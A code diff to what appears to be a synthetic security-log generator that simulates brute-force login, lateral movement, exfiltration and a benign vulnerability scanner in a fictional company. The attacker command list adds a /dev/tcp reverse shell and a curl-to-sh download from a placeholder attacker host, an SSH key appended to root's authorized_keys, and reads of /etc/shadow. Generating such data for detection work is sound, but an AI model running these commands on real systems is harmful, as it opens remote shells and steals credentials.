@@ -3,6 +3,8 @@
 1. Passwords are guessed at the jump host from outside. One fits; from there it goes on to the database and the files.
 2. A desk packs files, sends them out over HTTPS and in names that are asked for.
 3. The company's own vulnerability management scans: as noisy as can be, and harmless. The asset inventory knows it.
+
+All hosts and addresses are of the simulated company, or reserved for documentation.
 """
 
 from __future__ import annotations
@@ -17,7 +19,7 @@ BRUTE_FORCE, LATERAL_MOVEMENT, EXFILTRATION, SCANNER = "brute_force", "lateral_m
 GUESSING, ENTERED, MOVED, MOVED_AGAIN = (330.0, 990.0), 1_002.0, 1_250.0, 1_560.0
 LEAKING, SCANNING = (1_590.0, 2_690.0), (930.0, 2_060.0)
 LEAKING_DESK = "ws-17"
-SCANNED = (company.WEB, company.MAIL, company.BUILD, *(f"ws-{number:02d}" for number in range(1, 17)))
+SCANNED = (company.MAIL, company.BUILD, *(f"ws-{number:02d}" for number in range(1, 41) if number != 17))
 _TRIED = ("root", "admin", "postgres", "deploy", "jenkins", "oracle", company.SERVICE_ACCOUNT)
 _LOOKS_AROUND = (
     "whoami",
@@ -29,9 +31,10 @@ _LOOKS_AROUND = (
     "ls -la /home",
     "cat /root/.ssh/known_hosts",
 )
+_NEXT = (company.FILES, company.BUILD, company.BACKUP, company.WEB, company.MAIL, company.DATABASE)  # who lets it in?
 _IN_THE_DATABASE = (
-    "bash -i", "wget -q http://203.0.113.66/k.sh -O /tmp/.k", "chmod +x /tmp/.k", "/tmp/.k", "cat /etc/shadow",  # noqa: S108 - what they type
-    "pg_dump -U postgres --all -f /tmp/.d", "crontab -l",
+    f"bash -c bash -i >& /dev/tcp/{company.ATTACKER}/4444 0>&1", f"curl -s http://{company.ATTACKER}/k.sh | sh", "cat /etc/shadow",
+    "sh -c echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5 >> /root/.ssh/authorized_keys", "pg_dump -U postgres --all -f .d", "crontab -l",
 )  # fmt: skip
 _LETTERS = "abcdefghijklmnopqrstuvwxyz234567"
 
@@ -59,8 +62,15 @@ def moving(rng: np.random.Generator) -> Events:
     events, hosts, user = Events(LATERAL_MOVEMENT), company.hosts(), company.SERVICE_ACCOUNT
     jump, database, files = hosts[company.JUMP], hosts[company.DATABASE], hosts[company.FILES]
     for number, command in enumerate(_LOOKS_AROUND):
-        _runs(events, ENTERED + 15 + 9 * number + rng.uniform(0, 4), jump.name, user, command)
-    _runs(events, MOVED - 30, jump.name, user, f"ssh -o StrictHostKeyChecking=no {user}@{database.name}")
+        _runs(events, ENTERED + 12 + 9 * number + rng.uniform(0, 4), jump.name, user, command)
+    for number, name in enumerate(_NEXT):
+        _runs(
+            events,
+            ENTERED + 100 + 14 * number,
+            jump.name,
+            user,
+            f"ssh -o StrictHostKeyChecking=no {user}@{name} hostname",
+        )
     logs.session(events, MOVED, database, user, jump.address, 40_112, 7_701, 900, method="password")
     for number, command in enumerate(_IN_THE_DATABASE):
         _runs(events, MOVED + 20 + 12 * number + rng.uniform(0, 5), database.name, user, command)
@@ -105,13 +115,11 @@ def leaking(rng: np.random.Generator) -> Events:
 
 
 def scanning(rng: np.random.Generator) -> Events:
-    """The vulnerability management tries passwords at servers and asks web servers for what should not be there."""
+    """The vulnerability management reads the banners of servers and asks web servers for what should not be there."""
     events, hosts = Events(SCANNER), company.hosts()
     scanner = hosts[company.SCANNER]
-    for name in SCANNED[:3]:
-        for at in np.sort(rng.uniform(*SCANNING, 14)):
-            user, port, pid = "vulnscan", int(rng.integers(30_000, 60_000)), int(rng.integers(1_000, 32_000))
-            logs.failed(events, float(at), hosts[name], user, scanner.address, port, pid, known=False)
+    for name in SCANNED[:2]:
+        logs.banners(events, rng, hosts[name], scanner.address, *SCANNING, 14)
     for at in np.sort(rng.uniform(*SCANNING, 90)):
         name = SCANNED[rng.integers(len(SCANNED))]
         page = ("/.git/config", "/admin", "/wp-login.php", "/server-status", "/etc/passwd", "/phpinfo.php")[
